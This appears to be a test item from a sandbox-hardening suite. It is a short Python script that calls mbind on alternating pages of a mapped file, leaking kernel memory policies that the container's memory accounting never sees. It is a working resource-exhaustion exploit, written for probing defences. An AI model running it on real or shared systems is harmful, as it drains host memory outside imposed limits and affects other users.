# family = "crowding"
# tries = "Pages of a file in memory get policies, every second one another: the kernel keeps them with the file once nothing is mapped any more, and charges them to nobody."
# could_earn = "The machine's memory."
# undefended = "LEAK: 120,000 policies in 0.4 s and 42 MB of the kernel's memory, of which the box's control group showed none."
# boxed_only = true

# %% extra
import ctypes
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
MBIND = {"x86_64": 237, "aarch64": 235}[platform.machine()]
PAGE, PAGES = 4096, 1000

count, node = 0, ctypes.c_ulong(1)
with open("file", "w+b") as file:
    file.truncate(40_000_000)
    for part in range(9):
        at = libc.mmap(None, PAGES * PAGE, 3, 1, file.fileno(), part * PAGES * PAGE)
        for page in range(0, PAGES, 2):
            place, size = ctypes.c_void_p(at + page * PAGE), ctypes.c_ulong(PAGE)
            count += libc.syscall(MBIND, place, size, 2, ctypes.byref(node), ctypes.c_ulong(2), 0) == 0
        libc.munmap(at, PAGES * PAGE)
print("LEAK:" if count else "none", count, "policies")
